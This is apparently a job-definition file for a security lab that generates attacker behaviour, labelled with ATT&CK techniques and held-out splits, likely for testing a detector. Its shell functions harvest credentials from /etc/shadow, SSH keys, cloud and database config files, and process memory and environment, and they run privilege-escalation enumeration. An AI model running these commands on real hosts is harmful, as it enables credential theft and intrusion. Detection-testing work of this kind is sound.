# Secrets gathered from homes, web roots and other processes' memory; then what a host is and where it is weak.
behaviour credential-access T1552.001
job crawl_grep shell;    crawl_grep() { while :; do grep -rIlE 'password|passwd|secret|token' /home /var/www /etc /root /opt 2>/dev/null; grep -rl 'PRIVATE KEY' /home /etc /root 2>/dev/null; nap "$(pick 0 200 900)"; done; }
job crawl_find_cat shell; crawl_find_cat() { while :; do find / -xdev \( -name id_rsa -o -name '*.pem' -o -name .env -o -name wp-config.php -o -name .pgpass -o -name credentials -o -name .netrc -o -name '*history' \) -exec cat {} + 2>/dev/null | wc -c; nap "$(pick 0 300)"; done; }
job crawl_loop shell;    crawl_loop() { while :; do for f in /etc/shadow /etc/passwd /etc/group /home/*/.ssh/* /home/*/.bash_history /home/*/.aws/* /home/*/.netrc /home/*/.pgpass /root/.ssh/* /var/www/*/.env /var/www/*/wp-config.php /etc/ssh/*key /home/*/.docker/*; do cat "$f"; nap "$(pick 0 10 60)"; done; done >loot 2>/dev/null; }
job crawl_rg shell held-out; crawl_rg() { while :; do rg -uu -l 'password|PRIVATE KEY' /home /etc /var/www; nap 300; done; }
for s in walk known proc; do eval "crawl_python_$s() { exec \"\$(as python3)\" /lab/src/bad.py crawl $s \"\$(pick /home /etc /var/www /usr/share/doc)\"; }"; done
job crawl_python_walk python; job crawl_python_known python; job crawl_python_proc python
job crawl_perl perl;     crawl_perl() { exec "$(as perl)" /lab/src/bad.pl crawl /home /etc /var/www; }
job crawl_ruby ruby held-out; crawl_ruby() { exec "$(as ruby)" /lab/src/bad.rb crawl /home /var/www; }
job crawl_node node;     crawl_node() { exec "$(as node)" /lab/src/bad.js crawl /home /etc/ssh /var/www; }
job crawl_php php;       crawl_php() { exec "$(as php)" /lab/src/bad.php crawl /home /var/www /etc; }
job crawl_go go;         crawl_go() { exec "$(bin bad-go)" crawl "$(pick /home /etc /var/www /usr/share)"; }
job crawl_rust rust held-out; crawl_rust() { exec "$(bin bad-rs)" crawl "$(pick /home /etc /var/www)"; }
job crawl_c c;           crawl_c() { exec "$(bin misc)" crawl "$(pick /home /etc /var /usr/share)"; }
job crawl_c_memory c;    crawl_c_memory() { exec "$(bin misc)" mem "$(pick 0 1000 10000)"; }
job crawl_environ shell; crawl_environ() { while :; do for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ | grep -iE 'pass|secret|token|key'; strings -n 8 $p/cmdline 2>/dev/null; done; nap "$(pick 50 300)"; done 2>/dev/null; }
job crawl_strings shell held-out; crawl_strings() { while :; do for p in $(pgrep .); do grep -aoE 'password=[^&]+' /proc/$p/environ /proc/$p/cmdline; dd if=/proc/$p/mem bs=4096 skip=1024 count=20 2>/dev/null | grep -ac secret; done; nap 100; done 2>/dev/null; }
job crawl_tar shell;     crawl_tar() { while :; do tar czf /tmp/.l.tgz /home/*/.ssh /home/*/.aws /home/*/.mozilla /home/*/.config /etc/shadow /var/www/*/.env /root/.gnupg 2>/dev/null; rm /tmp/.l.tgz; nap "$(pick 0 200)"; done; }

behaviour enumeration T1082
job enum_linpeas shell
enum_linpeas() {
  local f; f=$(pick 0 100 400)
  while :; do
    for c in 'id' 'uname -a' 'cat /etc/os-release' 'cat /proc/version' 'ps auxww' 'ss -anp' 'netstat -an' 'mount' 'df -h' 'env' 'cat /etc/passwd' 'cat /etc/group' 'cat /etc/shadow' 'crontab -l' 'ls -la /etc/cron.d' 'cat /etc/crontab' 'ls -la /root' 'ls -laR /home' \
      'find / -xdev -perm -4000 -type f' 'find / -xdev -perm -2000 -type f' 'getcap -r /usr/bin' 'find /etc -writable' 'find / -xdev -name *.bak' 'lsof -nP' 'dpkg -l' 'sudo -n -l' 'last' 'w' 'ip addr' 'ip route' 'arp -a' 'cat /etc/fstab' 'cat /etc/sudoers' 'which gcc nc perl python3' 'ls /opt /srv' 'cat /etc/ssh/sshd_config' 'stat /var/run/docker.sock' 'grep -r NOPASSWD /etc/sudoers.d' 'find /var/www -name *.php -size -9k'; do
      echo "== $c"; timeout 9 $c 2>/dev/null | sed 's/root/[root]/g' | head -300; nap "$f"; done; done >out; }
job enum_lse shell
enum_lse() { while :; do for u in $(cut -d: -f1 /etc/passwd); do id "$u"; [ -r "/home/$u" ] && ls -la "/home/$u"; done; for d in /etc/init.d/* /usr/lib/systemd/system/*.service; do [ -w "$d" ] && echo "$d"; grep -o 'ExecStart=[^ ]*' "$d"; done; for p in /proc/[0-9]*; do readlink $p/exe; tr '\0' ' ' < $p/cmdline; done; for b in /usr/bin/*; do [ -u "$b" ] && echo "suid $b"; [ -w "$b" ] && echo "w $b"; done; nap "$(pick 0 200)"; done >out 2>/dev/null; }
job enum_one_liners shell; enum_one_liners() { while :; do $(pick id whoami hostname 'uname -a' w last 'ps aux' 'ss -tulpn' 'ip a' 'cat /etc/passwd' 'ls -la /home' 'find /home -name *.key' 'cat /etc/shadow' env mount 'df -h' 'lsblk' 'crontab -l' 'sudo -n -l' 'cat /root/.bash_history') >out 2>&1; nap "$(pick 20 200 800 1500)"; done; }
job enum_suid_find shell held-out; enum_suid_find() { while :; do find / -xdev \( -perm -4000 -o -perm -2000 \) -type f -exec ls -l {} \; ; find / -xdev -type f -perm -o+w; find / -xdev -nouser; find / -xdev -mmin -10; done >out 2>/dev/null; }
job enum_python python;  enum_python() { exec "$(as python3)" /lab/src/bad.py enum "$(pick 0 .2 .8)"; }
job enum_perl perl;      enum_perl() { exec "$(as perl)" /lab/src/bad.pl enum "$(pick 0 .2 .8)"; }
job enum_ruby ruby held-out; enum_ruby() { exec "$(as ruby)" /lab/src/bad.rb enum "$(pick 0 .5)"; }
job enum_node node;      enum_node() { exec "$(as node)" /lab/src/bad.js enum "$(pick 0 200 800)"; }
job enum_php php;        enum_php() { exec "$(as php)" /lab/src/bad.php enum "$(pick 1000 200000 900000)"; }
job enum_go go;          enum_go() { exec "$(bin bad-go)" enum; }
job enum_c c held-out;   enum_c() { exec "$(bin misc)" enum "$(pick /usr /etc /var /)"; }
